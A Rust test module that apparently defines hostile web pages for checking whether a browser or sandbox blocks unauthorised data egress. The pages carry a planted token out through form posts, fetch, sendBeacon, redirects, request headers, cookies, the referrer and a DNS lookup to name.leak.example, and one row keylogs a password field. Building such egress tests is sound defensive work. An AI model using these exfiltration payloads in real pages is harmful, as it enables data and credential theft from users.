//! What is sent without a grant, and what is carried out in what may be asked.

use super::{Act, Attack, Kind, Proof, Reply};

fn send(name: &str, proof: Proof, body: &'static str) -> Attack {
    Attack::page(name, Kind::Send, proof, body)
}

fn carry(name: &str, proof: Proof, body: &'static str) -> Attack {
    Attack::page(name, Kind::Exfiltrate, proof, body)
}

pub(super) fn rows() -> Vec<Attack> {
    let mut rows = vec![
        send("form-post", Proof::Taken, "<!doctype html><form method=post action='{here}/'><input name=a value='{loot}'><button>Send</button></form>").acts(&[Act::Click("button")]),
        send("form-filled", Proof::Taken, "<!doctype html><form method=post action='{here}/'><input name=a><button>Send</button></form>").acts(&[Act::Fill("input", "loot-7f3a91"), Act::Click("button")]),
        send("form-by-script", Proof::Taken, "<!doctype html><form method=post action='{here}/'><input name=a value='{loot}'></form><script>document.forms[0].submit()</script>"),
        send("form-requested", Proof::Taken, "<!doctype html><form method=post action='{here}/'><input name=a value='{loot}'><button>Send</button></form><script>document.forms[0].requestSubmit()</script>"),
        send("form-elsewhere", Proof::Tcp, "<!doctype html><form method=post action='http://{victim}/form-elsewhere'><input name=a value='{loot}'></form><script>document.forms[0].submit()</script>"),
        send("form-action-of-button", Proof::Tcp, "<!doctype html><form action='{here}/'><button formmethod=post formaction='http://{victim}/form-action-of-button'>Send</button></form>").acts(&[Act::Click("button")]),
        send("form-into-frame", Proof::Taken, "<!doctype html><iframe name=f hidden></iframe><form method=post target=f action='{here}/'><input name=a value='{loot}'></form><script>document.forms[0].submit()</script>"),
        send("form-of-a-file", Proof::Taken, "<!doctype html><form method=post enctype=multipart/form-data action='{here}/'><input type=file name=a></form><script>
const files = new DataTransfer(); files.items.add(new File(['{loot}'], 'a.txt'));
document.querySelector('input').files = files.files; document.forms[0].submit();
</script>"),
        send("form-as-typed", Proof::Taken, "<!doctype html><form method=post action='{here}/'><input name=a oninput='this.form.submit()'></form>").acts(&[Act::Fill("input", "loot-7f3a91"), Act::Wait(500)]),
        send("label-of-a-form", Proof::Taken, "<!doctype html><form method=post action='{here}/' id=f><input name=a value='{loot}'></form><label for=b>Read more</label><button id=b form=f hidden></button>").acts(&[Act::Click("label")]),
        send("redirect-that-keeps-a-post", Proof::Tcp, "<!doctype html><form method=post action='{here}/on'><input name=a value='{loot}'></form><script>document.forms[0].submit()</script>")
            .file("on", Reply::With(307, &[("location", "http://{victim}/redirect-that-keeps-a-post")], "")),
    ];
    for method in ["POST", "PUT", "DELETE", "PATCH"] {
        let name = format!("fetch-{}", method.to_lowercase());
        rows.push(
            send(
                &name,
                Proof::Taken,
                "<!doctype html><script>fetch('{here}/', {method: '{method}', body: '{loot}'})</script>",
            )
            .word("{method}", method),
        );
    }
    rows.push(send(
        "beacon-home",
        Proof::Taken,
        "<!doctype html><script>navigator.sendBeacon('{here}/', '{loot}')</script>",
    ));
    rows.push(send(
        "options",
        Proof::Taken,
        "<!doctype html><script>fetch('{here}/', {method: 'OPTIONS', headers: {'x-a': '{loot}'}})</script>",
    ));
    rows.extend(carried());
    rows
}

fn carried() -> Vec<Attack> {
    vec![
        carry("in-the-query", Proof::Taken, "<!doctype html><script>fetch('{here}/?{loot}')</script>"),
        carry("in-the-path", Proof::Taken, "<!doctype html><script>fetch('{here}/{loot}')</script>"),
        carry(
            "in-the-fragment",
            Proof::Taken,
            "<!doctype html><script>location.hash = '{loot}'; setTimeout(() => fetch('{here}/' + location.hash.slice(1)), 100)</script>",
        ),
        carry(
            "in-a-field",
            Proof::Taken,
            "<!doctype html><script>fetch('{here}/', {headers: {'x-note': '{loot}'}})</script>",
        ),
        carry(
            "in-accept",
            Proof::Taken,
            "<!doctype html><script>fetch('{here}/', {headers: {'accept': 'text/{loot}', 'accept-language': '{loot}'}})</script>",
        ),
        carry(
            "in-authorization",
            Proof::Taken,
            "<!doctype html><script>fetch('{here}/', {headers: {authorization: 'Bearer {loot}'}})</script>",
        ),
        carry(
            "in-a-method",
            Proof::Taken,
            "<!doctype html><script>fetch('{here}/', {method: '{loot}'})</script>",
        ),
        carry(
            "in-the-referrer",
            Proof::Taken,
            "<!doctype html><script>history.pushState({}, '', '{here}/?{loot}'); fetch('{here}/', {referrerPolicy: 'unsafe-url'})</script>",
        ),
        carry(
            "in-a-cookie",
            Proof::Taken,
            "<!doctype html><script>document.cookie = 'a={loot}; path=/hostile/in-a-cookie/'; fetch('{here}/')</script>",
        ),
        carry(
            "in-a-name",
            Proof::Dns("name.leak.example"),
            "<!doctype html><img src='http://{loot}.name.leak.example/'>",
        ),
        carry("in-a-frame-path", Proof::Taken, "<!doctype html><iframe src='{here}/{loot}'></iframe>"),
        carry(
            "in-a-form-query",
            Proof::Taken,
            "<!doctype html><form action='{here}/'><input name=a value='{loot}'></form><script>document.forms[0].submit()</script>",
        ),
        carry(
            "in-a-path-of-escapes",
            Proof::Taken,
            "<!doctype html><script>fetch('{here}/%2e%2e/in-a-path-of-escapes/%6coot-7f3a91?{loot}')</script>",
        ),
        carry(
            "in-a-history",
            Proof::Taken,
            "<!doctype html><script>history.replaceState({}, '', '{here}/{loot}'); location.reload()</script>",
        ),
        carry(
            "after-a-login",
            Proof::Taken,
            "<!doctype html><form id=f><input type=password></form><script>
document.querySelector('input').oninput = (event) => new Image().src = '{here}/?typed=' + event.target.value;
</script>",
        )
        .acts(&[Act::Fill("input", "loot-7f3a91"), Act::Wait(300)]),
    ]
}
